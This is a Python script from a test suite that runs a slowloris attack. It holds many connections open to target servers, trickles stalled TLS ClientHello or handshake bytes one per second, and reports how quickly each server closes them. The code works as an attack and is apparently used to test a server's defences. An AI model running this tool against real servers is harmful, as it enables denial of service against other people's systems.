"""A slowloris attacker, run as its own process: ``python slowloris.py PLAN``.

PLAN is JSON: ``{"targets": [{"host", "port", "count", "sources", "payload",
"first"}], "duration": seconds}``. For each target it keeps ``count``
connections open (spread over the local ``sources`` addresses); each sends
the first ``first`` bytes of ``payload`` (hex) at once and then one more byte
a second, never the last one. When the server closes a connection, the slot
records how long that took and connects again, until ``duration`` is over
or its stdin reaches end of file (the parent closed it); then each slot
waits for its last connection to be closed by the server (it never closes
one itself, short of giving up after 30 s). Prints
``ready`` once every slot has connected, and at the end one JSON line per
target: connections made, how many the server closed, the slowest and
median close (seconds after connect), connect failures, and connections
never closed.

Payloads the tests use: a TLS record header announcing a 512-byte
ClientHello, then its body (a stalled TLS handshake: the server's TLS layer
waits for the whole record), and a bastion Hello frame (a trickled
handshake). Standard library only.
"""

from __future__ import annotations

import asyncio
import json
import resource
import socket
import sys
import threading
import time
from typing import Any

#: Give up on a connection the server has not closed after this long.
GIVE_UP = 30.0


class Target:
    def __init__(self, spec: dict[str, Any]) -> None:
        self.host: str = spec["host"]
        self.port: int = spec["port"]
        self.count: int = spec["count"]
        self.sources: list[str] = spec["sources"]
        self.payload = bytes.fromhex(spec["payload"])
        self.first: int = spec["first"]
        self.connections = 0
        self.connect_failures = 0
        self.never_closed = 0
        self.close_times: list[float] = []

    def summary(self) -> dict[str, Any]:
        times = sorted(self.close_times)
        return {
            "port": self.port,
            "connections": self.connections,
            "closed_by_server": len(times),
            "connect_failures": self.connect_failures,
            "never_closed": self.never_closed,
            "max_close_s": round(times[-1], 3) if times else None,
            "median_close_s": round(times[len(times) // 2], 3) if times else None,
        }


async def connect(target: Target, source: str) -> socket.socket | None:
    loop = asyncio.get_running_loop()
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    try:
        sock.bind((source, 0))
        await asyncio.wait_for(loop.sock_connect(sock, (target.host, target.port)), 10)
    except (OSError, TimeoutError):
        sock.close()
        target.connect_failures += 1
        return None
    target.connections += 1
    return sock


async def trickle(target: Target, sock: socket.socket) -> None:
    """Trickle bytes until the server closes the connection; record how long that took."""
    loop = asyncio.get_running_loop()
    start = time.monotonic()
    payload, sent = target.payload, target.first
    try:
        await loop.sock_sendall(sock, payload[:sent])
        while time.monotonic() - start < GIVE_UP:
            try:
                data = await asyncio.wait_for(loop.sock_recv(sock, 4096), 1.0)
            except TimeoutError:
                if sent < len(payload) - 1:  # never complete it
                    await loop.sock_sendall(sock, payload[sent : sent + 1])
                    sent += 1
                continue
            if not data:
                break
        else:
            target.never_closed += 1
            return
    except OSError:  # reset by the server, or a send into a closed connection
        pass
    finally:
        sock.close()
    target.close_times.append(time.monotonic() - start)


async def slot(target: Target, source: str, stop_at: list[float], connected: list[int], ready: asyncio.Event) -> None:
    first = True
    while True:
        sock = await connect(target, source)
        if first:
            first = False
            connected[0] -= 1
            if connected[0] == 0:
                ready.set()
        if sock is not None:
            await trickle(target, sock)
        else:
            await asyncio.sleep(0.1)
        if time.monotonic() >= stop_at[0]:
            return


async def main(plan: dict[str, Any]) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    targets = [Target(spec) for spec in plan["targets"]]
    waiting = [sum(t.count for t in targets)]
    ready = asyncio.Event()
    stop_at = [time.monotonic() + plan["duration"]]
    loop = asyncio.get_running_loop()

    def stop_on_eof() -> None:
        sys.stdin.read()
        loop.call_soon_threadsafe(stop_at.__setitem__, 0, 0.0)

    threading.Thread(target=stop_on_eof, daemon=True).start()
    slots = []
    for target in targets:
        for i in range(target.count):
            source = target.sources[i % len(target.sources)]
            slots.append(asyncio.ensure_future(slot(target, source, stop_at, waiting, ready)))
            if i % 50 == 49:
                await asyncio.sleep(0.01)  # spread the connects over the listen backlog
    await ready.wait()
    print("ready", flush=True)
    await asyncio.gather(*slots)
    for target in targets:
        print(json.dumps(target.summary()), flush=True)


if __name__ == "__main__":
    asyncio.run(main(json.loads(sys.argv[1])))
